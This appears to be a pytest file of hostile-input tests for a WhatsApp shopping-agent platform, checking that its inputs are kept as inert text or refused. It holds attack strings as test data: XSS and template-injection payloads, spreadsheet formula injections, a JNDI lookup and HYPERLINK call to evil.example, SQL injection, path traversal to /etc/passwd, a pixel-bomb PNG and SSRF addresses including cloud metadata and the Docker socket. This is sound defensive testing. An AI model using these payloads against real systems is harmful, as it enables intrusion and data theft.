"""Hostile text: markup, formulas, templates, SQL, patterns, names, pictures, addresses.

Each test carries the number of its class (docs/hostile-input.md). Text is kept as it was written
and is never anything but text.
"""

import asyncio
import base64
import struct
import time
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import httpx2
import orjson
import pytest
import pytest_asyncio
from langchain_core.messages import AIMessage, HumanMessage, SystemMessage

from commerce_agent.domain.services.bubbles import split_bubbles
from commerce_agent.domain.services.catalogue_words import CatalogueWords
from commerce_agent.domain.services.customer_language import detect_language
from commerce_agent.domain.services.message_text import heard_text
from commerce_agent.domain.services.outgoing_check import LONGEST_DRAFT, check_draft, name_fact
from commerce_agent.domain.services.search_synonyms import with_tenant_words
from commerce_agent.domain.services.whatsapp_text import to_whatsapp
from commerce_agent.domain.value_objects.text import tidy_line
from commerce_agent.infrastructure.llm.conversation_messages import as_data
from commerce_agent.infrastructure.llm.prompts import repair_note
from commerce_agent.infrastructure.persistence.catalogue_search import SqlCatalogueSearch
from llm_worker.infrastructure.llm.answers import MAX_ANSWER_CHARACTERS, read_answer
from llm_worker.infrastructure.llm.offline_model import OfflineChatModel
from llm_worker.infrastructure.llm.response_validator import validate_response
from shared.config.settings import PlatformSettings, SecuritySettings
from shared.observability.logging import redact
from shared.security.outbound import open_client
from shared.waha.client import WahaClient
from shared.waha.contents import media_path
from shared.waha.parsing import parse_event
from shared.waha.reading import LONGEST_TEXT
from tests.fault.hostile.house import House, a_number, as_json, is_refused
from tests.fault.hostile.listener import EvilListener, evil_listener
from tests.integration.gateway.conftest import PEPPER, running
from tests.support import rows
from tests.support.coffee_shop import a_menu
from tests.support.waha_webhooks import file


@dataclass(frozen=True)
class Told:
    """What became of one text at every door that keeps text."""

    product: dict[str, Any]
    message: Any
    thread: list[dict[str, Any]]
    phone: list[dict[str, Any]]


async def tell(house: House, text: str, *, name: str | None = None) -> Told:
    """Put a text wherever text may go, and read it back wherever it is shown."""
    tenant, number = house.tenant, a_number()
    async with house.visit() as visit:
        body = {
            "name": name or text[:200],
            "description": text[:4000],
            "category": "Kopi",
            "variants": [{"sku": "T-1", "price": {"amount": 1, "currency": "IDR"}}],
        }
        made = await visit.as_owner("POST", tenant.products, json=body)
        assert made.status_code == 201, made.text
        event = tenant.hooks.message(text, chat=number)
        assert (await visit.as_waha(event.body)).status_code == 200
        sent = await visit.as_owner("POST", tenant.simulator, json={"text": text[:4096]})
        assert sent.status_code == 202, sent.text
    await house.settle()
    async with house.visit() as visit:
        product = await visit.as_owner("GET", f"{tenant.products}/{made.json()['id']}")
        listed = (await visit.as_owner("GET", f"{tenant.base}/conversations")).json()["data"]
        (mine,) = [each for each in listed if each["customer_phone"] == f"+{number[:13]}"]
        thread = await visit.as_owner("GET", f"{tenant.base}/conversations/{mine['id']}/messages")
        phone = await visit.as_owner("GET", tenant.simulator)
        for answer in (product, thread, phone):
            assert answer.headers["content-type"] == "application/json"
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "default-src 'none'" in answer.headers["content-security-policy"]
    (message,) = [each for each in await house.messages() if each["sender"] == number]
    return Told(product.json(), message, thread.json()["data"], phone.json()["data"])


async def assert_kept(house: House, text: str) -> None:
    """Byte for byte, in every place."""
    told = await tell(house, text)
    assert told.product["name"] == text
    assert told.product["description"] == text
    assert told.message["body"] == text
    assert [each["text"] for each in told.thread if each["by"] == "customer"] == [text]
    assert [each["text"] for each in told.phone if each["from_customer"]] == [text]
    assert told.message["answered_how"] == "ai"


MARKUP = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '"><iframe srcdoc="<script>1</script>">',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title></textarea></script><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "expression(alert(1))",
    "<!--<![CDATA[-->&lt;b&gt;&#60;",
]


@pytest.mark.parametrize("text", MARKUP, ids=range(len(MARKUP)))
async def test_51_markup_is_kept_and_is_never_markup(house: House, text: str) -> None:
    await assert_kept(house, text)


async def test_51_a_page_that_names_a_shop_escapes_its_name(house: House) -> None:
    name = "<script>alert(1)</script>\"'&{{7*7}}"
    await house.db.execute("UPDATE tenants SET name = $1 WHERE id = $2", name, house.tenant.id)
    async with house.visit() as visit:
        page = await visit.get(f"/simulator/{house.tenant.slug}")
        assert page.status_code == 200
        assert "<script>alert" not in page.text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#39;&amp;{{7*7}}" in page.text
        policy = page.headers["content-security-policy"]
        assert "script-src 'self'" in policy
        assert "unsafe" not in policy
        listed = await visit.get("/simulator/api/info")
        assert name in [shop["name"] for shop in listed.json()["tenants"]]


async def test_51_a_link_that_is_no_address_is_refused(house: House) -> None:
    before = await house.belongings()
    product = {"name": "x", "variants": [{"sku": "X", "price": {"amount": 1, "currency": "IDR"}}]}
    async with house.visit() as visit:
        for link in (
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x",
            "file:///etc/passwd", "//evil.example", "https:", "https://", "https:// a.example",
            "https://a\n.example", "https://a.example\\@evil.example", "ftp://a.example",
        ):  # fmt: skip
            answer = await visit.as_owner(
                "PATCH", house.tenant.base, json={"profile": {"links": [link]}}
            )
            assert answer.status_code == 422, link
            if "evil" in link:
                continue
            answer = await visit.as_owner(
                "POST", house.tenant.products, json=product | {"images": [link]}
            )
            assert answer.status_code == 422, link
    assert await house.belongings() == before


FORMULAS = [
    '=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3",
    "=1+1", ";=1", '"=1', "%0A=1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
async def test_52_a_formula_is_kept_and_calculates_nothing(house: House, text: str) -> None:
    """Answers are JSON; there is no table to open in a spreadsheet yet."""
    await assert_kept(house, text)
    documents = (await house.path.http.get("/openapi.json")).text
    assert "text/csv" not in documents


async def test_53_line_breaks_in_names_are_refused_or_become_spaces(house: House) -> None:
    before = await house.belongings()
    async with house.visit() as visit:
        for broken in ("a\r\nb", "a\nb", "a\rb", "a\u2028b", "a\u0085b", "a\x0bb", "\x1b[31ma"):
            body = {
                "name": f"Kopi {broken}",
                "variants": [{"sku": "X", "price": {"amount": 1, "currency": "IDR"}}],
            }
            is_refused(
                await visit.as_owner("POST", house.tenant.products, json=body), 422, "bad_text"
            )
            for door, fields in (
                (house.tenant.channels, {"kind": "simulator", "name": broken}),
                (house.tenant.channels, {"kind": "simulator", "name": "x", "session": broken}),
            ):
                answer = await visit.as_owner("POST", door, json=fields)
                assert answer.status_code == 422, (broken, fields)
            answer = await visit.as_owner(
                "POST", house.tenant.products, json=body, headers={"idempotency-key": "a b"}
            )
            assert "\n" not in str(answer.headers)
    assert await house.belongings(None, "products", "variants", "channels") == " ".join(
        before.split()[index] for index in (2, 3, 1)
    )
    number = a_number()
    called = "Budi\r\nSet-Cookie: a=b\u2028\x1b[31m Santoso"
    await house.deliver(
        house.tenant.hooks.message("halo", chat=number, _data={"notifyName": called})
    )
    await house.settle()
    name = await house.db.fetchval(
        "SELECT name FROM customers WHERE tenant_id = $1 AND phone = $2",
        house.tenant.id,
        f"+{number[:13]}",
    )
    assert name == "Budi Set-Cookie: a=b [31m Santoso"


TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%n%x", "%(name)s", "{0.__class__}",
    "{tenant.wrapped_key}", "{}", "{", "}", "{{", "$(id)", "`id`", "${jndi:ldap://evil.example/a}",
    "{% import os %}", "\\u0041\\x41", "%25%7B",
]  # fmt: skip


@pytest.mark.parametrize("text", TEMPLATES, ids=range(len(TEMPLATES)))
async def test_54_a_template_is_filled_by_nobody(house: House, text: str) -> None:
    await assert_kept(house, text)


def test_54_a_template_in_what_a_model_is_told_to_mend_is_filled_by_nobody() -> None:
    for text in TEMPLATES:
        assert f"- {text}" in repair_note((text,)).splitlines()


SQL = [
    "'; DROP TABLE messages; --", "' OR '1'='1", "\\'; --", "a\\", "%", "_", "%%%", "\\%", "$1",
    ":x", "a & b | !c", "a <-> b", "kopi:*", "((((", "!!", "'kopi' <2> 'susu'", "\\", "'", "''",
    "E'\\x27'",
]  # fmt: skip


async def test_55_a_search_means_the_characters_that_were_typed(house: House) -> None:
    names = ["100% Susu", "A_B", "C\\D", "O'Brien", "Kopi"]
    for name in names:
        await rows.insert(
            house.db, "customers", {"tenant_id": house.tenant.id, "id": rows.new_id(), "name": name}
        )
    async with house.visit() as visit:
        for typed, found in (
            ("%", ["100% Susu"]),
            ("_", ["A_B"]),
            ("\\", ["C\\D"]),
            ("'", ["O'Brien"]),
            ("0% S", ["100% Susu"]),
            ("' OR '1'='1", []),
            ("%' --", []),
            ("kopi", ["Kopi"]),
        ):
            answer = await visit.as_owner("GET", house.tenant.customers, params={"search": typed})
            assert answer.status_code == 200
            assert sorted(row["name"] for row in answer.json()["data"]) == found, typed
        for typed in SQL:
            for query in ({"category": typed}, {"active": typed}):
                answer = await visit.as_owner("GET", house.tenant.products, params=query)
                assert answer.status_code in (200, 422)
                assert answer.status_code == 422 or answer.json()["data"] == []


@pytest.mark.parametrize("text", SQL[:5], ids=range(5))
async def test_55_sql_is_kept_as_text(house: House, text: str) -> None:
    await assert_kept(house, text)


async def test_55_no_query_of_a_customer_is_a_query_of_the_database(house: House) -> None:
    search = SqlCatalogueSearch(house.path.work.database)
    everything = (await search.search(house.tenant.id, "")).total
    assert everything == 1
    for text in SQL:
        for query in (text, f"kopi {text}", f"{text} latte"):
            found = await search.search(house.tenant.id, query, category=text)
            assert found.total <= everything
        assert (await search.search(house.tenant.id, f"kopi {text} latte")).total == 1, text


# -- 56: patterns ---------------------------------------------------------------------------------

UNITS = [
    "a", "0", " ", "\n", "*", "**", "_", "~", "`", "#", "|", "-", ">", "<", "(", "[", "{", "((",
    "![", "](", "a.", "@a", "1.", "1 ", "Rp1", "satu ", "dua puluh ", "lima ratus ", "stok 1 ", "diskon ",  # noqa: E501
    "tidak ", "http://", "www.a.", "a com ", "titik ", "\\*", "&amp;", "<b>", "<think>", "</think>",
    "<|im_start|>", "<function=a>", '{"name":', "```\n", "\u200b", "👍", "Z͑ͫ̓ͪ", "٣", "ﷺ", "order #",
    "A1-", "I've placed ", "pembayaran a b c d ", "=1", "5O", "a\n|", "|a|b|\n|-|-|\n", "0812",
    "1.000.", "x@x.", "[INST]", ". ", "1:1 ", "12/12/", "62811@c.us ", "p1",
]  # fmt: skip
ENDS = ["", "!", "x", "1"]


def _words() -> CatalogueWords:
    menu = a_menu()
    return CatalogueWords(
        names=[draft.name for draft in menu],
        categories=sorted({draft.category for draft in menu}),
        variant_names=["Regular", "Large"],
        synonyms=with_tenant_words([]),
    )


def _event(text: str) -> bytes:
    payload = {
        "id": text[:4000], "from": "62811111111@c.us", "body": text, "timestamp": text[:4000],
        "vCards": ["BEGIN:VCARD\n" + text], "replyTo": {"id": text[:4000], "body": text[:4000]},
    }  # fmt: skip
    return as_json({"event": "message", "session": "s" + text[:1000], "payload": payload})


def _offline() -> Callable[[str], object]:
    model = OfflineChatModel().bind_tools([])
    return lambda text: model.invoke([SystemMessage("x"), HumanMessage(as_data(text))])


def _about_media(text: str) -> str:
    content = {"media": {"filename": text[:1024]}, "quoted": {"text": text[:4096]}}
    return heard_text("document", text, content)


_WORDS = _words()
PATHS: dict[str, tuple[Callable[[str], object], int]] = {
    "webhook": (lambda text: parse_event(_event(text)), 150_000),
    "media path": (lambda text: media_path(f"http://x/api/files/{text}"), 2_000),
    "name of a customer": (tidy_line, 1_024),
    "language": (detect_language, LONGEST_TEXT),
    "heard": (_about_media, LONGEST_TEXT),
    "prompt": (as_data, LONGEST_TEXT),
    "search": (lambda text: _WORDS.terms(text), LONGEST_TEXT),
    "offline model": (_offline(), LONGEST_TEXT),
    "model's answer": (
        lambda text: read_answer(AIMessage(text), ("search_products",)),
        MAX_ANSWER_CHARACTERS,
    ),
    "form of an answer": (validate_response, MAX_ANSWER_CHARACTERS),
    "WhatsApp's marks": (to_whatsapp, MAX_ANSWER_CHARACTERS),
    "outgoing check": (lambda text: check_draft(text, []), LONGEST_DRAFT),
    "name of a product": (name_fact, 200),
    "bubbles": (split_bubbles, 20_000),
    "log": (lambda text: redact(None, "", {"event": "x", "detail": text}), 10_000),
}


def _slowest(path: str, units: list[str], ends: list[str]) -> tuple[float, str]:
    work, length = PATHS[path]
    slowest = (0.0, "")
    for unit in units:
        for end in ends:
            text = (unit * (length // len(unit) + 1))[: length - len(end)] + end
            began = time.process_time()
            work(text)
            slowest = max(slowest, (time.process_time() - began, f"{unit!r} … {end!r}"))
    return slowest


@pytest.mark.parametrize("path", PATHS)
def test_56_no_text_makes_a_pattern_run_away(path: str) -> None:
    """A tenth of the units, each as long as this path takes; all of them in the whole run."""
    seconds, text = _slowest(path, UNITS[::10], ENDS[:2])
    assert seconds < 1, f"{text} took {seconds:.2f} s of CPU"


@pytest.mark.whole
@pytest.mark.parametrize("path", PATHS)
def test_56_no_text_of_any_kind_makes_a_pattern_run_away(path: str) -> None:
    seconds, text = _slowest(path, UNITS, ENDS)
    assert seconds < 1, f"{text} took {seconds:.2f} s of CPU"


async def test_56_a_pattern_in_a_message_is_answered_like_any_other(house: House) -> None:
    number = a_number()
    texts = ["a" * 30_000 + "!", "(" * 20_000, "1 " * 30_000, "ﷺ" * 10_000, "a@" * 20_000]
    async with house.visit() as visit:
        for text in texts:
            body = house.tenant.hooks.message(text, chat=number).body
            assert (await visit.as_waha(body)).status_code == 200
    await house.settle()
    assert [message["body"] for message in await house.messages()] == texts
    assert {message["answered_how"] for message in await house.messages()} == {"ai"}


# -- 57, 58: names of files, and files ------------------------------------------------------------

FILE_NAMES = [
    "../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "CON", "nul.jpg", "a" * 300,
    "a\0b.jpg", ".", "..", "~root", "a/b", "a%2fb", "file\r\nX: y", "-rf", "💥" * 100, "a\u202egpj.exe",  # noqa: E501
]  # fmt: skip


async def test_57_a_file_name_is_a_name_and_no_way(house: House) -> None:
    number = a_number()
    for name in FILE_NAMES:
        media = {
            "url": f"http://evil.example/api/files/{name}",
            "mimetype": "image/jpeg",
            "filename": name,
        }
        await house.deliver(house.tenant.hooks.message(None, chat=number, media=media))
    await house.settle()
    kept = [orjson.loads(row["content"])["media"] for row in await house.messages()]
    assert len(kept) == len(FILE_NAMES)
    for media in kept:
        path = media["path"]
        assert path is None or (path.startswith("/api/files/") and ".." not in path)
        assert path is None or not set(path) & set("\0\r\n\\")
        assert media["filename"] is None or len(media["filename"]) <= 1024
        assert not set(media["filename"] or "") & set("\0\r\n")
    async with house.visit() as visit:
        before = await house.belongings()
        for name in FILE_NAMES:
            body = {
                "name": "x",
                "images": [f"../{name}"],
                "variants": [{"sku": "X", "price": {"amount": 1, "currency": "IDR"}}],
            }
            answer = await visit.as_owner("POST", house.tenant.products, json=body)
            assert answer.status_code == 422, name
            encoded = quote(name.replace("\0", ""), safe="").replace(".", "%2e")
            answer = await visit.as_owner(
                "GET", f"/simulator/api/tenants/{house.tenant.slug}/media/{encoded}"
            )
            assert answer.status_code == 404, name
        assert await house.belongings() == before


def a_png(width: int, height: int, data: bytes = b"") -> bytes:
    """A picture that says it is so large; a decoder would believe it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checked = kind + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


PICTURES: dict[str, tuple[bytes, str]] = {
    "pixel bomb": (a_png(60_000, 60_000, zlib.compress(b"\0" * 1_000_000, 9)), "image/png"),
    "GIF and script": (b"GIF89a=1;alert(document.domain)//" + b"\0" * 20, "image/gif"),
    "JPEG and page": (b"\xff\xd8\xff\xe0<html><script>alert(1)</script>", "image/jpeg"),
    "WebP and archive": (b"RIFF\0\0\0\0WEBPPK\x03\x04" + b"\0" * 50, "image/webp"),
    "JPEG with a place in it": (
        b"\xff\xd8\xff\xe1\x00\x20Exif\0\0MM\0*GPSLatitude" + b"\0" * 20,
        "image/jpeg",
    ),
}
NO_PICTURES = {
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "page": b"<!doctype html><script>alert(1)</script>",
    "archive": b"PK\x03\x04" + b"\0" * 100,
    "PDF": b"%PDF-1.7 /JavaScript",
    "ELF": b"\x7fELF",
    "empty": b"",
    "almost PNG": b"\x89PNG\r\n",
}


@pytest.mark.parametrize("kind", PICTURES)
async def test_58_a_picture_is_kept_unopened_and_is_shown_as_nothing_else(
    house: House, kind: str
) -> None:
    data, mimetype = PICTURES[kind]
    encoded = base64.b64encode(data).decode()
    async with house.visit() as visit:
        sent = await visit.as_owner(
            "POST",
            house.tenant.simulator,
            json={"image": {"data": encoded, "mimetype": "text/html", "caption": "<b>"}},
        )
        assert sent.status_code == 202
        native_id = sent.json()["native_id"]
        shown = await visit.as_owner(
            "GET", f"/simulator/api/tenants/{house.tenant.slug}/media/{native_id}"
        )
        assert shown.content == data
        assert shown.headers["content-type"] == mimetype
        assert shown.headers["x-content-type-options"] == "nosniff"
        assert shown.headers["content-security-policy"] == "default-src 'none'; sandbox"
    await house.settle()
    (message,) = await house.messages()
    shown_as = "sticker" if mimetype == "image/webp" else "image"  # as WhatsApp has it
    assert (message["content_type"], message["body"]) == (shown_as, "<b>")


async def test_58_what_is_no_picture_is_refused(house: House) -> None:
    before = await house.belongings()
    async with house.visit() as visit:
        for name, data in NO_PICTURES.items():
            for form in ("{}", "data:image/png;base64,{}", "data:text/html,{}"):
                encoded = form.format(base64.b64encode(data).decode())
                answer = await visit.as_owner(
                    "POST", house.tenant.simulator, json={"image": {"data": encoded}}
                )
                is_refused(answer, 422, "bad_picture")
                assert await house.belongings() == before, name
        for broken in ("====", "AAA", "A" * 5, "%%%%", "iVBORw0KGgo", " ", "\u0130"):
            answer = await visit.as_owner(
                "POST", house.tenant.simulator, json={"image": {"data": broken}}
            )
            is_refused(answer, 422, "bad_picture")
        large = base64.b64encode(a_png(1, 1, b"\0" * 2_000_001)).decode()
        answer = await visit.as_owner(
            "POST", house.tenant.simulator, json={"image": {"data": large}}
        )
        is_refused(answer, 422, "bad_picture")
    assert await house.belongings() == before


# -- 59: addresses that lead inside ---------------------------------------------------------------


@pytest_asyncio.fixture(loop_scope="session")
async def evil() -> AsyncIterator[EvilListener]:
    async with evil_listener() as listener:
        yield listener


def inside(port: int) -> list[str]:
    """Ways to write this machine, its network, and things that are no web address."""
    hosts = [
        "127.0.0.1", "127.1", "127.0.1", "2130706433", "017700000001", "0177.0.0.1", "0x7f000001",
        "0x7f.0.0.1", "0x7f.1", "127.0.0.1.", "localhost", "LOCALHOST.", "0.0.0.0", "0", "[::1]",
        "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:0:0:1]", "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]", "[fe80::1]", "[fe80::1%25lo]", "10.0.0.1", "172.16.0.1", "192.168.0.1",
        "169.254.169.254", "100.64.0.1", "198.18.0.1", "224.0.0.1", "255.255.255.255",
        "①②⑦.⓪.⓪.①", "127。0。0。1", "localtest.me\u0000", "a b", "-", "..", "a..b",
    ]  # fmt: skip
    addresses = [f"{scheme}://{host}:{port}" for host in hosts for scheme in ("http", "https")]
    return [
        *addresses,
        f"http://public.example@127.0.0.1:{port}/",
        f"http://127.0.0.1:{port}#@public.example/",
        f"http://127.0.0.1:{port}?public.example/",
        f"http://127.0.0.1:{port}\\@public.example/",
        f"http://public.example\\@127.0.0.1:{port}/",
        f"http:127.0.0.1:{port}",
        f"//127.0.0.1:{port}",
        f"http:///127.0.0.1:{port}",
        f"http://127.0.0.1:{port}\r\nX-A: b",
        f"\thttp://127.0.0.1:{port}",
        f"HTTP://127.0.0.1:{port}",
        f"https://127.0.0.1:{port}/%2e%2e/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://127.0.0.1:11211/",
        "ftp://127.0.0.1/",
        "unix:///var/run/docker.sock",
        "http+unix://%2Fvar%2Frun%2Fdocker.sock",
        "http://127.0.0.1:99999",
        "http://[::1",
        "https://",
        "",
        "x" * 501,
    ]


async def resolves(address: str) -> bool:
    """Whether there is anybody behind this name at all; only then is somebody refused."""
    try:
        await asyncio.get_running_loop().getaddrinfo(httpx2.URL(address).host, 80)
    except (OSError, UnicodeError):
        return False
    return True


@pytest.mark.whole
async def test_59_no_address_of_a_tenant_leads_inside(house: House, evil: EvilListener) -> None:
    """Each is refused as an address, or refused when it is to be used; nobody is ever called."""
    tenant = house.tenant
    settings = PlatformSettings(
        database=house.db.settings,
        security=SecuritySettings(master_key=rows.MASTER_KEY, api_key_pepper=PEPPER),
    )
    made = 0
    async with running(settings) as http:
        for number, address in enumerate(inside(evil.port)):
            body = {
                "kind": "waha",
                "name": f"n{number}",
                "base_url": address,
                "api_key": "k-secret",
            }
            answer = await http.post(tenant.channels, json=body, headers=tenant.key)
            assert answer.status_code in (201, 422), (address, answer.text)
            if answer.status_code == 422:
                continue
            made += 1
            door = f"/v1/whatsapp/sessions/{answer.json()['id']}"
            for method, path in (("GET", door), ("POST", f"{door}/start"), ("GET", f"{door}/qr")):
                used = await http.request(method, path, headers=tenant.key)
                if used.status_code == 503 and not await resolves(address):
                    is_refused(used, 503, "waha_unavailable")
                else:
                    is_refused(used, 403, "address_refused")
                assert "k-secret" not in used.text
    assert made > 20, "the second wall was tried too"
    assert evil.heard == []


async def test_59_a_redirect_is_not_followed_with_the_key(house: House, evil: EvilListener) -> None:
    """WAHA's own host may be asked; where it sends us is not."""

    async def redirect(reader: Any, writer: Any) -> None:
        await reader.readuntil(b"\r\n\r\n")
        target = f"http://{evil.host}/".encode()
        writer.write(
            b"HTTP/1.1 302 Found\r\nlocation: " + target + b"\r\ncontent-length: 0\r\n\r\n"
        )
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(redirect, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    channel = await rows.a_channel(
        house.db, house.tenant.id, base_url=f"http://127.0.0.1:{port}", session="lain"
    )
    async with house.visit():
        door = f"/v1/whatsapp/sessions/{channel}"
        answer = await house.path.http.get(door, headers=house.tenant.key)
    server.close()
    await server.wait_closed()
    is_refused(answer, 422, "waha_refused")
    assert evil.host not in answer.text
    assert evil.heard == []


async def test_59_a_forged_media_address_never_gets_the_key(
    house: House, evil: EvilListener
) -> None:
    """The file is asked of the configured server, whatever host the message named."""
    number = a_number()
    waha = house.path.waha
    hosts = [
        f"http://{evil.host}",
        f"http://{waha.host}@{evil.host}",
        f"http://{evil.host}/{waha.host}",
        f"//{evil.host}",
        f"http://{evil.host}#{waha.host}",
        f"http://{evil.host}?x=http://{waha.host}",
        f"http://{evil.host}/x/../..",
    ]
    for host in hosts:
        media = file(host=host)
        await house.deliver(house.tenant.hooks.message("foto", chat=number, media=media))
    await house.settle()
    kept = [orjson.loads(row["content"])["media"]["path"] for row in await house.messages()]
    assert evil.host not in str(kept)
    async with open_client(
        ["127.0.0.1"],
        timeout=timedelta(seconds=5),
        base_url=waha.url,
        headers={"x-api-key": waha.api_key},
    ) as client:
        asked = WahaClient(client, house.tenant.hooks.session)
        for path in filter(None, kept):
            with pytest.raises(Exception, match=r"404|no longer there|not a file"):
                await asked.media(path)
        for path in (f"http://{evil.host}/api/files/x", f"//{evil.host}/api/files/x", "/api/x"):
            with pytest.raises(Exception, match="not a file"):
                await asked.media(path)
    assert evil.heard == []


# -- 60: long and odd -----------------------------------------------------------------------------

ODD = {
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈🇮🇩1️⃣" * 20,
    "Zalgo": "k̷̡̧̛̙̪̲̃̀o̸͉̊͝p̵̨̛̎i̶̗͒" * 20,
    "joiners": "a\u200d\u200d\u200db",
    "Arabic": "قهوة ☕ لو سمحت",
    "variation": "☕\ufe0e☕\ufe0f",
    "private": "\ue000\uf8ff",
    "astral": "𝓚𝓸𝓹𝓲 𐍈",
}


@pytest.mark.parametrize("kind", ODD)
async def test_60_odd_characters_are_kept_one_by_one(house: House, kind: str) -> None:
    told = await tell(house, ODD[kind], name="Kopi Aneh")
    assert told.message["body"] == ODD[kind]
    assert told.phone[0]["text"] == ODD[kind]


async def test_60_the_longest_message_is_kept_whole_and_a_longer_one_is_cut(house: House) -> None:
    number, hooks = a_number(), house.tenant.hooks
    longest = "👍" * LONGEST_TEXT
    async with house.visit() as visit:
        for text in (longest, longest + "👎" * 1000, "x" * 450_000):
            body = hooks.message(text, chat=number).body
            assert (await visit.as_waha(body)).status_code == 200
    await house.settle()
    bodies = [message["body"] for message in await house.messages()]
    assert bodies == [longest, longest, "x" * LONGEST_TEXT]
    assert {message["answered_how"] for message in await house.messages()} == {"ai"}
    before = await house.belongings()
    async with house.visit() as visit:
        for door, body in (
            (house.tenant.simulator, {"text": "x" * 4_097}),
            ("/v1/whatsapp/send", {"to": f"+{number[:13]}", "text": "x" * 100_000}),
            (house.tenant.products, {"name": "x" * 201, "variants": []}),
        ):
            is_refused(await visit.as_owner("POST", door, json=body), 422, "validation_failed")
    assert await house.belongings() == before
